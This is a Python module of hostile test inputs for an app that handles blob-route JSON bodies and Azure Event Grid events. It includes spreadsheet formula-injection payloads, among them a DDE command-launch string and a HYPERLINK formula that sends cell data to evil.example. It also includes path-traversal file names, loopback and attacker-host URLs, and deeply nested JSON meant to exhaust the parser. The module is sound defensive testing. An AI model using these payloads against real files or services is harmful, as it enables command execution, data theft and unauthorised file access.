"""Bodies, names and cells that the app must bear, as tables."""

from tests.faults.input_files import LONGEST

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    '"=HYPERLINK(""http://evil.example?""&A1,""x"")"',
    "\t=1+1",
    '"\r=1+1"',
    '"\n=1+1"',
    " =1+1",
    "%0A=1",
]
OUTSIDE = ["double/../../{}/owner.json", "../{}/owner.json"]
BODIES = {
    "nothing": b"",
    "no JSON": b"route=double",
    "no text": b"\xff\xfe\x00",
    "null": b"null",
    "a number": b"1e999",
    "a huge number": b"1" * 5000,
    "a text": b'"double"',
    "a list": b'[{"route": "double", "blobs": ["double/a.csv"]}]',
    "no route": b'{"blobs": ["double/a.csv"]}',
    "a route in a list": b'{"route": ["double"], "blobs": ["double/a.csv"]}',
    "a route of null": b'{"route": null, "blobs": ["double/a.csv"]}',
    "one blob": b'{"route": "double", "blobs": "double/a.csv"}',
    "blobs as keys": b'{"route": "double", "blobs": {"double/a.csv": 1}}',
    "blobs in lists": b'{"route": "double", "blobs": [["double/a.csv"]]}',
    "an empty name": b'{"route": "double", "blobs": ["double/a.csv", ""]}',
    "a huge number to force": b'{"route": "double", "blobs": ["double/a.csv"], "force": %s}' % (b"9" * 5000),
    "a number to force": b'{"route": "double", "blobs": ["double/a.csv"], "force": 1}',
    "force as text": b'{"route": "double", "blobs": ["double/a.csv"], "force": "false"}',
    "cut off": b'{"route": "double", "blobs": ["double/a.csv"]',
    "two bodies": b'{"route": "double", "blobs": ["double/a.csv"]}' * 2,
}
UNANSWERED = {
    "deep lists": b"[" * 100_000,
    "deep objects": b'{"route":' * 100_000,
}
AMBIGUOUS = b'{"route": "nowhere", "route": "double", "blobs": ["double/a.csv"]}'
NO_BLOBS = [
    "double/A.csv",
    "double/a.csv ",
    "double/a.csv/",
    "double%2Fa.csv",
    "inbox/double/a.csv",
    "/double/a.csv",
    "http://127.0.0.1:1/inbox/double/a.csv",
    "https://dropsevil.blob.core.windows.net/inbox/double/a.csv",
    "//evil.example/inbox/double/a.csv",
    "double/a.csv?sv=2024&sig=x",
    "double/a.csv#x",
    "double/a\0.csv",
    "n" * (LONGEST + 1),
    ".",
    "..",
    "../x",
    "double/./a.csv",
    "double/../double/a.csv",
    "double/a.csv/.",
]


CREATED = "Microsoft.Storage.BlobCreated"
INBOX = "/blobServices/default/containers/inbox/blobs/"
# Deliveries that are no events of this inbox, which Event Grid is not to bring again.
IGNORED = {
    "no events": b"[]",
    "missing fields": b"[{}]",
    "wrong types": b'[{"eventType": 1, "subject": {}}, {"eventType": {}, "subject": ["a"]}]',
    "subject of null": b'[{"eventType": "Microsoft.Storage.BlobCreated", "subject": null}]',
    "no blob": b'[{"eventType": "Microsoft.Storage.BlobCreated", "subject": "%s"}]' % INBOX.encode(),
    "an unknown type": b'[{"eventType": "Microsoft.Storage.BlobBurnt", "subject": "%sa.csv"}]'
    % INBOX.encode(),
}
REFUSED = {"nothing": b"", "no JSON": b"subject=a.csv", "cut off": b'[{"subject": "a'}
BROKEN = {
    "no text": b"\xff\xfe\x00",
    "a number": b"[1]",
    "a text": b'"a.csv"',
    "null": b"[null]",
    "a list in a list": b"[[]]",
    "deep lists": b"[" * 100_000,
    "a huge number": b"1" * 5000,
    "half a character": b'[{"eventType": "%s", "subject": "%s\\ud800"}]' % (CREATED.encode(), INBOX.encode()),
}
